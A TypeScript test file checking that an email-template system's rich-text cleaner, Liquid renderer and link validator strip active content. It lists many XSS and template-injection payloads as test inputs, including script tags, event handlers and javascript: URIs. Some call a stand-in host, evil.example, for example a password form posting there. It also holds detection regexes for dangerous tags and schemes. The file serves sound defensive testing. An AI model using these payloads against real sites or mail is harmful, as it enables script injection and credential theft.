import * as fc from 'fast-check'
import { describe, expect, it } from 'vitest'
import { cleanRichText } from '../../src/domain/email/blocks/rich-text.ts'
import { isAddress } from '../../src/domain/email/blocks/urls.ts'
import { findMessageFaults } from '../../src/domain/email/check.ts'
import { compile } from '../../src/domain/email/compile.ts'
import { escapeLiquid } from '../../src/domain/email/escape.ts'
import { splitLiquid } from '../../src/domain/email/liquid/liquid.ts'
import { buildSampleContext } from '../../src/domain/email/liquid/variables.ts'
import { personalise } from '../../src/domain/email/personalise.ts'
import { repeatByLoops } from '../support/hostile-templates.ts'
import { renderTemplate, richText } from '../support/hostile.ts'
import { aMessageOf, framing } from '../support/messages.ts'

/** Tags of the frame, to which a message may add nothing. */
const acting = /<(script|iframe|object|embed|svg|math|form|input|button|style|link|meta|base|template|video|audio)\b/gi
const inFrame = compile(aMessageOf(richText('x')), 'en', framing).html.match(acting)?.length ?? 0

/** Lists names of attributes, without the texts in quotes. */
const handlers = /<[a-z][^>]*\son\w+\s*=/i
const schemes = /(href|src|action|background|style)\s*=\s*["']?\s*(javascript|vbscript|data|file|blob)\s*:/i

function expectHarmless(html: string, frame = 0): void {
  expect(html.match(acting)?.length ?? 0).toBeLessThanOrEqual(frame)
  expect(html.replaceAll(/"[^"]*"/g, '""')).not.toMatch(handlers)
  expect(html.replaceAll(/&#x?[0-9a-f]+;|[\s\p{Cc}]/giu, '')).not.toMatch(schemes)
  expect(html).not.toMatch(/expression\(|url\(|-moz-binding/i)
}

describe('rich text', () => {
  it.each([
    '<script>alert(1)</script>',
    '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
    '<scr<script>ipt>alert(1)</scr</script>ipt>',
    '<script>{{ customer.first_name }}</script>',
    '<img src=x onerror=alert(1)>',
    '<img src="https://a.example/x.png" onerror="alert(1)">',
    '<img src="https://a.example/x.png"onload=alert(1)>',
    '<a href="javascript:alert(1)">x</a>',
    '<a href="JaVaScRiPt:alert(1)">x</a>',
    '<a href=" java\tscript:alert(1)">x</a>',
    '<a href="java&#10;script:alert(1)">x</a>',
    '<a href="&#106;avascript:alert(1)">x</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD4=">x</a>',
    '<a href="vbscript:x">x</a>',
    '<a href="//evil.example">x</a>',
    '<a href="https:evil.example">x</a>',
    '<a href="https://user:pass@evil.example/">x</a>',
    '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
    '<svg onload=alert(1)><script>alert(1)</script>',
    '<math><mtext><script>alert(1)</script></mtext></math>',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<object data="javascript:alert(1)"></object>',
    '<form action="https://evil.example"><input name=password><button>Go</button></form>',
    '<style>body{display:none}</style>',
    '<p style="background:url(javascript:alert(1))">x</p>',
    '<p style="width:expression(alert(1))">x</p>',
    '<p style="position:fixed;top:0;left:0;width:9999px;color:red">x</p>',
    '<p style="color:red;}</style><script>alert(1)</script>">x</p>',
    '<base href="https://evil.example"><link rel=stylesheet href="https://evil.example/x.css">',
    '<meta http-equiv="refresh" content="0;url=https://evil.example">',
    '<!--[if mso]><script>alert(1)</script><![endif]-->',
    '<!-- --!><script>alert(1)</script>',
    '<![CDATA[<script>alert(1)</script>]]>',
    '<?php echo "<script>" ?><script>alert(1)</script>',
    '<noscript><p title="</noscript><script>alert(1)</script>">',
    '<textarea></textarea><script>alert(1)</script>',
    '<title></title><script>alert(1)</script>',
    '<xmp><script>alert(1)</script></xmp>',
    '<template><script>alert(1)</script></template>',
    '<p title="><script>alert(1)</script>">x</p>',
    '</td></tr></table></div><script>alert(1)</script>',
    '</div></mj-text><mj-raw><script>alert(1)</script></mj-raw>',
    '&lt;script&gt;alert(1)&lt;/script&gt;',
    '<details open ontoggle=alert(1)>x</details>',
    '<video><source onerror="alert(1)"></video>',
    '<a href="https://a.example/" onclick="x" style="color:red" target="_self" ping="https://evil.example">x</a>',
    '{% comment %}{{ {% endcomment %}<script>alert(1)</script>{{ x }}',
    '{% raw %}<script>alert(1)</script>{% endraw %}',
    '{{ "<script>alert(1)</script>" }}',
    "{{ '<img src=x onerror=alert(1)>' }}",
    `<a href='https://a.example/{{ "x" | append: "onclick=alert(1)" }}'>x</a>`,
    `<a href="https://a.example/{{ 'x&quot; onclick=&quot;y' }}">x</a>`,
    '{% assign x = "<script>alert(1)</script>" %}{{ x }}',
    '{% capture x %}<script>alert(1)</script>{% endcapture %}{{ x }}',
    '<{{ "script" }}>alert(1)</{{ "script" }}>',
    '<a {{ "onclick=alert(1)" }}>x</a>',
    '<a href="{{ "javascript:alert(1)" }}">x</a>',
    '<a href="{{ customer.first_name }}">x</a>',
    '<a href="java{{ "script" }}:alert(1)">x</a>',
    '<a href="{% if true %}javascript:alert(1){% endif %}">x</a>',
    '<a href="https://{{ customer.first_name }}/">x</a>',
    '<a href="https://a.example{{ customer.first_name }}">x</a>',
    '{% assign links = "x" %}<a href="{{ links.portal }}">x</a>',
    '{% for links in order.items %}<a href="{{ links.name }}">x</a>{% endfor %}',
    '{% capture links %}javascript:alert(1){% endcapture %}<a href="{{ links }}">x</a>',
    '&#123;&#123; "<script>alert(1)</script>" }}',
    '&#123;% raw %}<b>',
    '&#xE000;0&#xE001;<a href="&#xE000;0&#xE001;">x</a>{{ "javascript:alert(1)" }}',
    '<p {% if true %}onclick="alert(1)"{% endif %}>x</p>',
    '<p style="{{ "color:red" }};background:url(x)">x</p>',
  ])('loses everything active: %j', (source) => {
    // A message that is refused is not sent.
    expectHarmless(renderTemplate(source)?.html ?? '', inFrame)
  })

  it('is harmless and balanced after cleaning, for any input', () => {
    const parts = fc.constantFrom(
      '<p>',
      '</p>',
      '<b',
      '>',
      '<a href="',
      'https://a.example/',
      'javascript:',
      '"',
      "'",
      '<script>',
      '</script>',
      '<img src=',
      ' onerror=alert(1)',
      '<!--',
      '-->',
      '{{',
      '}}',
      '{% if true %}',
      '{% endif %}',
      '{% raw %}',
      '{% endraw %}',
      'customer.first_name',
      '<style>',
      '</style>',
      '&#',
      '106;',
      '<svg>',
      '</svg>',
      '<ul><li>',
      '/',
      '<![CDATA[',
      ']]>',
      '{% comment %}',
      '{% endcomment %}',
      '\0',
      '\n',
      'x',
      '&lt;',
      '|',
      ' raw ',
      '<table><tr><td>',
    )
    fc.assert(
      fc.property(fc.array(parts, { maxLength: 30 }), (pieces) => {
        const source = pieces.join('')
        if (findMessageFaults({ blocks: [richText(source)] }).length) return
        const { html } = cleanRichText(source)
        expectHarmless(html)
        // Cleaned markup stays the same.
        expect(cleanRichText(html).html).toBe(html)
        expectHarmless(personalise({ subject: '', html, text: '', links: [] }, buildSampleContext()).html)
      }),
      { numRuns: 1500 },
    )
  })

  it('has no markup inside Liquid', () => {
    for (const source of [
      '{{ "<script>" }}',
      '{% if x == "</p>" %}x{% endif %}',
      '{{<b>}}',
      '{% comment %}{{ "<!--" }}{% endcomment %}',
    ])
      expect([source, findMessageFaults({ blocks: [richText(source)] })[0]?.code]).toEqual([source, 'misplaced_liquid'])
    expect(findMessageFaults({ blocks: [richText('{% if order.items_count < 2 %}x{% endif %}')] })).toEqual([])
  })

  it('has no Liquid in attributes other than addresses', () => {
    const source = '<a href="https://a.example/" title="{{ order.number }}" style="color: {{ order.number }}">x</a>'
    expect(cleanRichText(source).html).toBe('<a href="https://a.example/">x</a>')
  })

  it('stays text when it only looks like Liquid, at the cost of few tags', () => {
    const parts = fc.constantFrom('{', '%', '}', 'endraw', 'raw', ' ', '-', 'x', '"', "'", 'end', '|')
    fc.assert(
      fc.property(fc.array(parts, { maxLength: 12 }), (pieces) => {
        const text = pieces.join('')
        const template = { subject: '', html: '', text: `${escapeLiquid(text)}{{ order.number }}`, links: [] }
        expect(personalise(template, { order: { number: '1' } }).text).toBe(`${text}1`)
      }),
      { numRuns: 1000 },
    )
    expect(splitLiquid(escapeLiquid('{{ x '.repeat(4000))).filter(({ isLiquid }) => isLiquid).length).toBeLessThan(10)
  })

  it('keeps the markup that organisers write', () => {
    const source =
      '<h2 style="color: #1d4ed8; text-align: center">Hi</h2><p>A<br />B &amp; <em>C</em></p><img src="https://a.example/x.png" alt="X" width="20" />'
    expect(cleanRichText(source).html).toBe(source)
    expect(cleanRichText('<p>a{% if 1 < 2 and "x" != "&" %}<b>yes</b>{% endif %}</p>').html).toBe(
      '<p>a{% if 1 < 2 and "x" != "&" %}<b>yes</b>{% endif %}</p>',
    )
    expect(
      cleanRichText('<p>One</p>\n<p>Two <a href="https://a.example/?q={{ order.number }}">there</a></p>').text,
    ).toBe('One\n\nTwo there (https://a.example/?q={{ order.number }})')
  })
})

describe('a rendered message', () => {
  it('contains whole characters only, for any filters on a name', () => {
    const source = '{{ customer.first_name | split: "" | first }}'
    const template = compile({ ...aMessageOf(richText(source)), subject: { en: source } }, 'en', framing)
    const { subject, html, text } = personalise(template, { customer: { first_name: '😀' } })
    expect([subject === '\uFFFD', html.isWellFormed(), text.isWellFormed()]).toEqual([true, true, true])
  })

  it('has a limited size', () => {
    const heavy = (characters: number) => {
      const source = repeatByLoops(2500, '\u20AC'.repeat(characters))
      return personalise(compile(aMessageOf(richText(source)), 'en', framing), {})
    }
    expect(heavy(70).html.length).toBeGreaterThan(175_000)
    expect(() => heavy(110)).toThrow(/larger than/)
  })

  it('is refused with loops that make it larger than all its text', () => {
    const text = `<p>${repeatByLoops(2500, 'x'.repeat(90))}</p>`
    expect(findMessageFaults({ blocks: [richText(text)] })).toEqual([])
    const blocks = [1, 2].map((id) => ({ ...richText(text), id: String(id) }))
    expect(findMessageFaults({ blocks })[0]).toMatchObject({ pointer: '#/blocks', code: 'template_too_large' })
  })
})

describe('a link in a message', () => {
  it.each([
    'https://a.example',
    'http://a.example/?x={{ order.number }}',
    'mailto:a@b.example',
    'tel:+4520123456',
    '{{ links.portal }}',
    '{{links.unsubscribe}}',
    'https://a.example/#{{ order.number | url_encode }}',
  ])('may be %s', (url) => expect(isAddress(url)).toBe(true))

  it.each([
    '',
    'a.example',
    '/x',
    '//x.example',
    'javascript:1',
    'https://',
    'https://a b.example',
    '{{ order.number }}',
    '{{ links.portal | append: "x" }}',
    'x{{ links.portal }}',
    '{{ links.portal }}x',
    'https://{{ order.number }}',
    'https://a.example{% if true %}/x{% endif %}',
    'https://a.example/{% if true %}/x{% endif %}',
    'https://a.example/"onclick=',
    `https://a.example/{{ 'x" onclick="y' }}`,
    'ftp://a.example',
    '{{ links["portal"] }}',
    '{{',
  ])('may not be %j', (url) => expect(isAddress(url)).toBe(false))
})
